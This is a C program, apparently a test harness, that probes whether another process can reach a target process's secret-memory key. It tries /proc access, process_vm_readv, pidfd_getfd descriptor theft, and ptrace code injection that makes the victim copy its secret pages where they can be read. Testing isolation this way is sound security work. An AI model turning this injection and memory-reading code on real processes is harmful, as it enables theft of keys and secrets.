// attack PID KEY_HEX: what another process can do to PID, one `name=result` a line. A result is the errno by name, "ok",
// or what was got. KEY_HEX is a key that PID holds in secret memory, so that we can tell whether we have got at it.

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

enum { page_bytes = 4096, highest_descriptor = 64, key_bytes = 32, mappings_most = 64 };

struct mapping {
  unsigned long begin, end;
};

struct victim {
  int pid;
  unsigned char key[key_bytes];
  unsigned long readable;
  struct mapping secret[mappings_most];
  int secret_count;
};

static void tell(const char *name, bool succeeded, const char *success) {
  printf("%s=%s\n", name, succeeded ? success : strerrorname_np(errno));
}

static int open_proc(const struct victim *victim, const char *entry, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", victim->pid, entry);
  return open(path, flags);
}

static void try_open(const struct victim *victim, const char *name, const char *entry, int flags) {
  int fd = open_proc(victim, entry, flags);
  tell(name, fd >= 0, "ok");
  if (fd >= 0) close(fd);
}

// Without the map we ask for an address that may not be there: whether we may ask is decided first.
static void read_map(struct victim *victim) {
  victim->readable = page_bytes;
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", victim->pid);
  FILE *maps = fopen(path, "r");
  tell("maps", maps != NULL, "ok");
  if (maps == NULL) return;
  while (fgets(line, sizeof line, maps) != NULL) {
    struct mapping mapping;
    char mode[5];
    if (sscanf(line, "%lx-%lx %4s", &mapping.begin, &mapping.end, mode) != 3 || mode[0] != 'r') continue;
    if (strstr(line, "secretmem") != NULL) {
      if (victim->secret_count < mappings_most) victim->secret[victim->secret_count++] = mapping;
    } else if (victim->readable == page_bytes) {
      victim->readable = mapping.begin;
    }
  }
  fclose(maps);
}

static void read_memory(const struct victim *victim) {
  char byte;
  struct iovec here = {&byte, 1}, there = {(void *)victim->readable, 1};
  tell("process_vm_readv", process_vm_readv(victim->pid, &here, 1, &there, 1, 0) == 1, "ok");
  if (victim->secret_count == 0) return;
  there.iov_base = (void *)victim->secret[0].begin;
  tell("process_vm_readv of secret memory", process_vm_readv(victim->pid, &here, 1, &there, 1, 0) == 1, "ok");
  int memory = open_proc(victim, "mem", O_RDONLY);
  if (memory < 0) return;
  tell("read of secret memory", pread(memory, &byte, 1, (off_t)victim->secret[0].begin) == 1, "ok");
  close(memory);
}

static bool is_secret(int fd) {
  char path[64], target[128] = "";
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  return readlink(path, target, sizeof target - 1) > 0 && strstr(target, "secretmem") != NULL;
}

static void steal_descriptors(const struct victim *victim) {
  int pidfd = (int)syscall(SYS_pidfd_open, victim->pid, 0), stolen = 0, secret = 0, refusal = 0;
  for (int number = 0; pidfd >= 0 && number < highest_descriptor; number++) {
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (fd < 0) {
      if (errno != EBADF) refusal = errno;
      continue;
    }
    stolen++;
    if (is_secret(fd)) secret++;
    close(fd);
  }
  errno = refusal;
  tell("pidfd_getfd", stolen > 0, "ok");
  if (stolen > 0) printf("descriptors of secret memory=%s\n", secret > 0 ? "some" : "none");
}

static bool holds(const unsigned char *bytes, size_t count, const unsigned char *key) {
  return memmem(bytes, count, key, key_bytes) != NULL;
}

// Makes the victim copy a page of its own secret memory below its stack, where it can be read.
static bool copy_page(const struct victim *victim, const struct user_regs_struct *at, unsigned long page,
                      unsigned char *into) {
  const unsigned long below = (at->rsp - 4 * page_bytes) & ~(unsigned long)(page_bytes - 1);
  struct iovec here = {into, page_bytes}, there = {(void *)below, page_bytes};
  struct user_regs_struct registers = *at;
  registers.rsi = page;
  registers.rdi = below;
  registers.rcx = page_bytes;
  registers.orig_rax = (unsigned long)-1;
  int status;
  if (ptrace(PTRACE_SETREGS, victim->pid, NULL, &registers) < 0) return false;
  if (ptrace(PTRACE_CONT, victim->pid, NULL, NULL) < 0) return false;
  if (waitpid(victim->pid, &status, __WALL) < 0 || !WIFSTOPPED(status) || WSTOPSIG(status) != SIGTRAP) return false;
  return process_vm_readv(victim->pid, &here, 1, &there, 1, 0) == page_bytes;
}

static const char *inject(const struct victim *victim) {
  static const long code = 0xcca4f3;  // rep movsb; int3
  unsigned char page[page_bytes];
  struct user_regs_struct registers;
  if (ptrace(PTRACE_GETREGS, victim->pid, NULL, &registers) < 0) return strerrorname_np(errno);
  errno = 0;
  const long saved = ptrace(PTRACE_PEEKTEXT, victim->pid, registers.rip, NULL);
  if (errno != 0) return strerrorname_np(errno);
  const long injected = (saved & ~0xffffffl) | code;
  if (ptrace(PTRACE_POKETEXT, victim->pid, registers.rip, injected) < 0) return strerrorname_np(errno);
  const char *result = "no key";
  for (int i = 0; i < victim->secret_count; i++)
    for (unsigned long from = victim->secret[i].begin; from < victim->secret[i].end; from += page_bytes)
      if (copy_page(victim, &registers, from, page) && holds(page, sizeof page, victim->key)) result = "key read";
  ptrace(PTRACE_POKETEXT, victim->pid, registers.rip, saved);
  ptrace(PTRACE_SETREGS, victim->pid, NULL, &registers);
  return result;
}

static void attach(const struct victim *victim) {
  bool attached = ptrace(PTRACE_ATTACH, victim->pid, NULL, NULL) == 0;
  tell("ptrace attach", attached, "ok");
  if (!attached) return;
  waitpid(victim->pid, NULL, __WALL);
  printf("code injection=%s\n", inject(victim));
  ptrace(PTRACE_DETACH, victim->pid, NULL, NULL);
}

static bool parse_key(const char *hex, unsigned char *key) {
  for (int i = 0; i < key_bytes; i++)
    if (sscanf(hex + (size_t)(2 * i), "%2hhx", &key[i]) != 1) return false;
  return true;
}

int main(int count, char **arguments) {
  struct victim victim = {0};
  if (count != 3 || strlen(arguments[2]) != 2 * key_bytes || !parse_key(arguments[2], victim.key)) {
    fprintf(stderr, "usage: attack PID KEY_HEX\n");
    return 64;
  }
  victim.pid = atoi(arguments[1]);
  read_map(&victim);
  try_open(&victim, "environ", "environ", O_RDONLY);
  try_open(&victim, "mem for reading", "mem", O_RDONLY);
  try_open(&victim, "mem for writing", "mem", O_RDWR);
  try_open(&victim, "list of descriptors", "fd", O_RDONLY | O_DIRECTORY);
  read_memory(&victim);
  steal_descriptors(&victim);
  attach(&victim);
  return 0;
}
